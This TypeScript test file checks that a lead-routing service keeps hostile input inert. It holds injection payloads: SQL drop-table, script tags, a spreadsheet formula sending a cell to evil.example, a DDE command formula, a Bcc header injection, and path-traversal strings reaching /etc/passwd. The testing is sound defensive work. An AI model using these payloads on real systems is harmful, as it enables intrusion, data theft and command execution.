// Texts that mean something to SQL, HTML, templates, letters, headers, tables or paths, put in wherever a text is kept, and followed to where they come out.
import { sql } from '../../../src/db/db.ts'
import { eventually } from '../../support/eventually.ts'
import { exchangeForThisTest, type TestExchange } from '../../support/exchange.ts'
import { CRM, formSource, LOOPBACK, liveFlow, submit } from '../../support/leads.ts'
import { type Receiver, receiverForThisTest } from '../../support/receiver.ts'
import { sftpServer } from '../../support/sftp-server.ts'
import { must } from '../../support/story.ts'
import { speaking } from './bare-speech.ts'
import { type Finding, type Looking, looking } from './finding.ts'
import { type PostOffice, postOffice } from './post-office.ts'

const EVIL: Record<string, string> = {
  SQL: `'; drop table leads; select $1 --`,
  HTML: `<img src=x onerror="alert(1)"><script>alert(2)</script>`,
  templates: `{{account.name}} {{credential.password}} {{#each lead}}{{this}}{{/each}}`,
  formula: `=HYPERLINK("http://evil.example?"&A1,"x")`,
  lines: `Acme\r\nBcc: evil@evil.example\r\n\r\nOther body`,
  'formula, spaced': ` \t=cmd|' /C calc'!A0`,
}

type Stage = { look: Looking; exchange: TestExchange; office: PostOffice; receiver: Receiver }

export async function injection(): Promise<Finding> {
  const look = looking()
  const office = await postOffice()
  const receiver = await receiverForThisTest()
  const env = { ...LOOPBACK, GANGWAY_SMTP_URL: `smtp://127.0.0.1:${office.port}` }
  const exchange = await exchangeForThisTest({ works: true, env })
  const stage = { look, exchange, office, receiver }
  const rows: (string | number)[][] = []
  for (const [meaning, text] of Object.entries(EVIL)) {
    const before = look.checks()
    const faults = look.faults.length
    await throughNames(stage, meaning, text)
    await throughLeads(stage, meaning, text)
    rows.push([meaning, look.checks() - before, look.faults.length - faults])
  }
  for (const [name, part] of Object.entries({ 'paths of pages': pagePaths, 'paths of SFTP': sftpPaths })) {
    const [before, faults] = [look.checks(), look.faults.length]
    await part(stage)
    rows.push([name, look.checks() - before, look.faults.length - faults])
  }
  const [{ there } = { there: false }] = await exchange.rows<{ there: boolean }>(
    sql`select to_regclass('public.leads') is not null as there`,
  )
  look.see(there, 'the table of leads is gone')
  const title = 'Texts that mean something elsewhere stay texts'
  const columns = ['texts for', 'looks', 'faults']
  return { tables: [{ title, columns, rows }], checks: look.checks(), faults: look.faults }
}

/** Names and notes: what the API gives back, letters, tables. Where a line is asked for, several may be refused. */
async function throughNames({ look, exchange, office }: Stage, meaning: string, text: string) {
  const acme = await exchange.company('Acme')
  const renamed = await acme.put('/account', { name: text })
  look.see([200, 400].includes(renamed.status), `${meaning}: a name is answered ${renamed.status}`)
  if (renamed.status === 200)
    look.see(renamed.body.name === text, `${meaning}: a name came back as ${renamed.body.name}`)
  const to = `mia-${acme.account_id}@bolt.example`
  await must(201, acme.post('/invitations/recipient', { email: to, note: text }))
  const mail = await eventually(() => {
    const found = office.mails.find((one) => one.to === to)
    if (!found) throw new Error(`no letter to ${to}`)
    return found
  })
  const heads = mail.headers.map((line) => line.split(':')[0]?.toLowerCase())
  look.see(!heads.includes('bcc') && !heads.includes('cc'), `${meaning}: a letter got further readers`)
  look.see(heads.filter((name) => name === 'to').length === 1, `${meaning}: a letter got a second To`)
  look.see(!/<img src=x|<script/i.test(mail.html), `${meaning}: HTML in a letter`)
  const flow = await acme.post('/flows', {
    name: text,
    enabled: true,
    fields: ['email'],
    sources: [formSource],
    steps: [],
  })
  look.see([201, 400].includes(flow.status), `${meaning}: a flow’s name is answered ${flow.status}`)
  if (flow.status !== 201) return
  look.see(flow.body.name === text, `${meaning}: a flow’s name came back as ${flow.body.name}`)
  await must(200, acme.post(`/flows/${flow.body.id}/deploy`))
  await submit(exchange.address, flow.body.id)
  const when = `start=${new Date(Date.now() - 86_400_000).toISOString()}&end=${new Date(Date.now() + 86_400_000).toISOString()}`
  const asCsv = { accept: 'text/csv' }
  const table = await acme.get(`/events/stats?${when}&group_by=flow.name&column=source-submitted`, asCsv)
  look.see(table.status === 200, `${meaning}: the table is answered ${table.status}`)
  look.see(
    !hasFormula(String(table.body)),
    `${meaning}: a formula in a table: ${String(table.body).slice(0, 200)}`,
  )
}

/** Whether a field of a CSV table begins as a formula does. */
function hasFormula(csv: string): boolean {
  return /(^|[,\n\r])"?\s*[=+@]|(^|[,\n\r])"?\s*-[^\d]/.test(csv)
}

/** Values of leads: what a recipient gets, in body and in headers, once and as they are. */
async function throughLeads({ look, exchange, receiver }: Stage, meaning: string, text: string) {
  const acme = await exchange.company('Sender')
  const mappings = [
    { property: 'url', value: receiver.url },
    { property: 'json_property.comments', value: '{{lead.comments}}' },
    { property: 'header.X-Comments', value: '{{lead.comments}}' },
  ]
  const integration = { module_id: 'leadconduit-custom.outbound.json', mappings }
  const flow = await liveFlow(acme, {
    fields: ['email', 'comments'],
    steps: [{ type: 'recipient', entity: { id: CRM }, integration }],
  })
  receiver.got.length = 0
  const told = await submit(exchange.address, flow, { email: 'ann@example.com', comments: text })
  look.see(told.status === 201, `${meaning}: a lead is answered ${told.status}`)
  const [got] = receiver.got
  const isSent = got !== undefined
  look.see(
    isSent || /header/i.test(told.reason ?? ''),
    `${meaning}: not sent, and why is not told: ${told.text}`,
  )
  if (got) {
    look.see(!('bcc' in got.headers), `${meaning}: a header began in a value`)
    const { comments } = JSON.parse(got.body)
    look.see(comments === text.trim(), `${meaning}: a value was sent as ${comments}`)
  }
  const found = await acme.get(`/search/leads?query=${encodeURIComponent('"ann@example.com"')}`)
  look.see(found.status === 200, `${meaning}: the search is answered ${found.status}`)
}

const PATHS = [
  '../../package.json',
  '..%2f..%2fpackage.json',
  '%2e%2e/%2e%2e/package.json',
  '..%252f..%252fpackage.json',
  '....//....//package.json',
  '..%5c..%5cpackage.json',
  'assets/../../../package.json',
  'assets/..%2f..%2f..%2fpackage.json',
  '%00/package.json',
  '/etc/passwd',
  '%2fetc%2fpasswd',
  'assets/%c0%ae%c0%ae/package.json',
]

/** Sent as bytes: an HTTP client would tidy them up. */
async function pagePaths({ look, exchange }: Stage) {
  for (const path of PATHS) {
    const told = await speaking(
      exchange.address,
      `GET /app/${path} HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\nConnection: close\r\n\r\n`,
    )
    look.see(/^HTTP\/1\.1 (200|302|400|404) /.test(told), `/app/${path} is answered ${told.slice(0, 30)}`)
    look.see(!/"devDependencies"|root:x:/.test(told), `/app/${path} leads out of the folder`)
  }
}

/** A value of a lead in the path of a file names no other folder. */
async function sftpPaths({ look, exchange }: Stage) {
  const server = await sftpServer()
  const acme = await exchange.company('Filer')
  const properties = {
    host: '127.0.0.1',
    port: String(server.port),
    username: 'ann',
    password: 'hunter22',
    path: '/leads/{{lead.comments}}.csv',
    'column.Email': '{{lead.email}}',
  }
  const mappings = Object.entries(properties).map(([property, value]) => ({ property, value }))
  const integration = { module_id: 'gangway.outbound.csv_sftp', mappings }
  const steps = [{ type: 'recipient', entity: { id: CRM }, integration }]
  const flow = await liveFlow(acme, { fields: ['email', 'comments'], steps })
  for (const comments of ['today', '../../etc/cron', 'a/../../b', '..', './../x', 'a\nb']) {
    server.files.clear()
    const told = await submit(exchange.address, flow, { email: 'ann@example.com', comments })
    const [path = ''] = [...server.files.keys()]
    const isOut = path.split('/').includes('..')
    look.see(!isOut, `SFTP: a value of a lead led to ${path}`)
    if (comments === 'today')
      look.see(path === '/leads/today.csv', `SFTP: a good path was not written: ${told.text}`)
  }
}
